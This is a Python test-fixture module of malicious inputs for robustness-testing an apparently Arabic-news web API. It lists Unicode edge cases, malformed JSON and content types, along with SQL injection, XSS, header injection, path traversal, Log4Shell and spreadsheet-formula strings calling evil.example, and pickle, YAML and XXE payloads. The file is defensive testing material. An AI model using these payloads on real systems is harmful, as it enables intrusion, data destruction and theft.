"""What somebody may send who means no good: texts, numbers and bodies. All invented."""

from typing import Any

BIDI = "قال \u202eالوزير\u202c إن \u2067الاتفاق\u2069 \u200fقريب\u061c."
# What is put into every field that takes a text.
TEXTS: dict[str, str] = {
    "bidi": BIDI,
    "nul": "قال\0فلان",
    "surrogate": "قال \ud800 فلان",
    "surrogates the wrong way round": "\udc00\ud800",
    "noncharacter": "\ufffe\uffff\U0010ffff",
    "sql": "x'; DROP TABLE articles; --",
    "sql dollar": "$$; DELETE FROM quotes; $$ %s %(x)s :x {0}",
    "like": "%_\\%",
    "tsquery": "'a' & !b | <-> :* ((",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "path": "../../../../etc/passwd",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "template": "{{7*7}}${7*7}#{7*7}%{7*7}",
    "log": "${jndi:ldap://evil.example/x}\n2024 ERROR made up",
    "regex": "(a+)+$" + "a" * 60,
    "tatweel": "ـ" * 500,
    "marks": "ا" + "\u0651\u064b" * 2000,
    "zero width": "\u200b\u200d\ufeff" * 100,
    "joined": "👨\u200d👩\u200d👧" * 50,
    "repeated": "قال " * 4000,
    "empty": "",
    "space": " \u00a0\u2028\t\n",
    "long word": "ع" * 20_000,
    "digits": "٩" * 400,
    "ligature": "ﷺﷻﷲ" * 50,
}
# Numbers beyond what a database or a float holds, as JSON writes them.
NUMBERS = (
    "1e400",
    "-1e400",
    "9" * 400,
    "2147483648",
    "-9223372036854775809",
    "1.5",
    "-0",
    "1e-400",
)
# Bodies that are no article, topic or change: JSON text by what is odd about it.
BODIES: dict[str, bytes] = {
    "deep lists": b'{"text": ' + b"[" * 5000 + b"]" * 5000 + b"}",
    "deep objects": b'{"text": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}",
    "never closed": b"[" * 50_000,
    "not a number": b'{"text": "x", "confidence": NaN}',
    "infinity": b'{"limit": Infinity}',
    "utf-16": '{"text": "خبر"}'.encode("utf-16"),
    "mark": b"\xef\xbb\xbf{}",
    "overlong": b'{"text": "\xc0\xaf"}',
    "encoded surrogate": b'{"text": "\xed\xa0\x80"}',
    "half an escape": b'{"text": "\\ud8',
    "control": b'{"text": "a\x01b"}',
    "prototype": b'{"__proto__": {"x": 1}, "constructor": 1, "__class__": "x"}',
    "a number": b"1",
    "a text": b'"x"',
    "null": b"null",
    "twice": b'{"text": "a", "text": 1}',
    "nothing": b"",
    "zip": b"PK\x03\x04" + b"\0" * 100,
    "gzip": b"\x1f\x8b\x08\x00" + b"\0" * 100,
    "pickle": b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.",
    "yaml": b"!!python/object/apply:os.system ['true']",
    "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
}
TYPES = (
    "text/plain",
    "text/html",
    "application/xml",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/json; charset=utf-16",
    "application/json;;;",
    "application/octet-stream",
    "*/*",
    "",
    "\u0645/json",
)


def with_each_field(body: dict[str, Any], value: Any) -> list[dict[str, Any]]:
    """A body as often as it has fields, each time with another one of this value; lists too."""
    found = []
    for name, held in body.items():
        found.append({**body, name: value})
        if isinstance(held, list):
            found.append({**body, name: [value]})
        if isinstance(held, dict):
            found += [{**body, name: part} for part in with_each_field(held, value)]
    return [*found, {**body, str(value)[:200]: 1}]
